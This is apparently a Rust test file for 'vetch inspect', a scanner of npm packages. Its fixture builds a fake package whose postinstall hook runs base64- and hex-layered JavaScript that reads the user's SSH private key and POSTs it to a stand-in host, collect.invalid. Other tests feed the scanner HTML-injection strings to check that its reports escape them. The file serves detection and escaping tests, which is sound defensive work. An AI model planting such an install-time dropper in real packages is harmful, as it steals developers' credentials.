//! `vetch inspect`, on packages of the test kit.

use std::fs;

use vetch_testkit::{Pkg, Project, Run};

use crate::vetch;

/// Two layers: text in base64 that runs text in hex, which reads credentials and sends them away. Inert: the
/// host does not exist.
fn layered() -> Pkg {
    let deed = "const fs=require('fs'),os=require('os');const key=fs.readFileSync(os.homedir()+'/.ssh/id_rsa');\
                fetch('https://collect.invalid/in',{method:'POST',body:key});";
    let hex: String = deed.bytes().map(|byte| format!("{byte:02x}")).collect();
    let outer = base64(&format!("eval(Buffer.from('{hex}','hex').toString());"));
    let bundle = format!(
        "(()=>{{var t={{7:(e,n,r)=>{{r(9)}},9:()=>{{eval(Buffer.from('{outer}','base64').toString())}}}};\
         function r(e){{var n={{exports:{{}}}};return t[e](n,n.exports,r),n.exports}}r(7)}})();\n"
    );
    Pkg::new("tiny-pad", "2.1.0")
        .script("postinstall", "node bundle.js")
        .file("bundle.js", bundle)
        .file("index.js", "exports.pad = require('./lib/pad');\n")
        .file("lib/pad.js", "module.exports = (s, n) => String(s).padStart(n);\n")
}

fn base64(text: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let digits = |chunk: &[u8]| {
        let bits = chunk.iter().fold(0u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        let digit = move |at: usize| char::from(ALPHABET[(bits >> (18 - 6 * at)) as usize & 63]);
        let shown = chunk.len() + 1;
        (0..4).map(move |at| if at < shown { digit(at) } else { '=' }).collect::<String>()
    };
    text.as_bytes().chunks(3).map(digits).collect()
}

fn inspect(project: &Project, arguments: &[&str]) -> Run {
    let vetch = vetch(&["inspect", "--offline"]).args(arguments.iter().copied());
    vetch.dir(project.root()).home(project.home()).run()
}

#[test]
fn a_bundled_dropper_in_layers_is_told_from_its_command_to_its_host() {
    let project = Project::builder("app").install(layered()).build();
    let run = inspect(&project, &["tiny-pad"]).expect(0);
    insta::assert_snapshot!(run.stdout);
}

#[test]
fn the_json_has_layers_modules_and_what_was_not_understood() {
    let project = Project::builder("app").install(layered()).build();
    let json = inspect(&project, &["tiny-pad@2.1.0", "--format", "json"]).expect(0).json();
    assert_eq!(
        (json["schema"].as_str(), json["release"]["verdict"].as_str()),
        (Some("vetch.inspect/1"), Some("malicious"))
    );
    let layers: Vec<_> = json["layers"].as_array().unwrap().iter().map(|it| it["layer"].as_u64().unwrap()).collect();
    assert_eq!(layers, [1, 2]);
    assert!(json["layers"][1]["text"].as_str().unwrap().contains("collect.invalid"));
    let module = |at: usize| json["modules"][at]["path"].as_str().unwrap();
    assert_eq!([module(0), module(1), module(2)], ["bundle.js", "index.js", "lib/pad.js"]);
    assert_eq!(json["modules"][1]["loads"][0], "lib/pad.js");
    assert_eq!(json["contents"]["reached_files"], 3);
    assert_eq!(json["contents"]["not_understood_files"], 0);
}

#[test]
fn what_cannot_be_parsed_is_counted() {
    let package = Pkg::new("odd", "1.0.0").file("index.js", "require('./broken');\n").file("broken.js", "let = = ;\n");
    let project = Project::builder("app").install(package).build();
    let run = inspect(&project, &["odd"]).expect(3);
    assert!(run.stdout.contains("1 of 2 source files that something runs"), "{}", run.stdout);
    assert!(run.stdout.contains("broken.js (import, syntax-error)"), "{}", run.stdout);
}

#[test]
fn an_archive_and_a_folder_are_inspected_by_path() {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("x.tgz"), layered().tarball()).unwrap();
    let run = vetch(&["inspect", "--offline", "x.tgz"]).dir(folder.path()).run().expect(0);
    assert!(run.stdout.contains("malicious  tiny-pad@2.1.0"), "{}", run.stdout);
    let project = Project::builder("app").install(layered()).build();
    let run = inspect(&project, &["node_modules/tiny-pad"]).expect(0);
    assert!(run.stdout.contains("collect.invalid"), "{}", run.stdout);
}

#[test]
fn a_hostile_package_cannot_write_into_the_page() {
    let hostile = "<script>alert(1)</script>\u{202e}\" onload=x";
    let package = Pkg::new("odd", "1.0.0")
        .field("description", hostile.into())
        .file("index.js", "fetch('https://x.invalid/<img src=x onerror=y>');\n");
    let project = Project::builder("app").install(package).build();
    inspect(&project, &["odd", "--format", "html", "--output", "odd.html"]).expect(0);
    let page = project.read("odd.html");
    assert!(page.contains("&lt;script&gt;") && page.contains("default-src 'none'"), "{page}");
    for forbidden in ["<script", "<img", "\u{202e}", "onload=x"] {
        assert!(!page.contains(forbidden), "{forbidden} in {page}");
    }
}

#[test]
fn mistakes_are_said_with_what_to_do() {
    let outer = super::scan::harmless("outer").dep("twice", "^1.0.0");
    let project = Project::builder("app")
        .install(outer)
        .install(Pkg::new("twice", "2.0.0").file("index.js", "\n"))
        .install_at("node_modules/outer/node_modules/twice", Pkg::new("twice", "1.0.0").file("index.js", "\n"))
        .lock_only(Pkg::new("absent", "1.0.0"))
        .build();
    for (package, words) in [
        ("outter", "did you mean `outer`?"),
        ("twice", "`twice@1.0.0`, `twice@2.0.0`"),
        ("./gone", "there is no `./gone`"),
        ("", "name a package folder"),
    ] {
        let run = inspect(&project, &[package]).expect(2);
        assert!(run.stderr.contains(words) && run.stdout.is_empty(), "{package}: {}", run.stderr);
    }
    let run = inspect(&project, &["absent"]).expect(3);
    assert!(run.stdout.contains("its contents could not be had"), "{}", run.stdout);
}
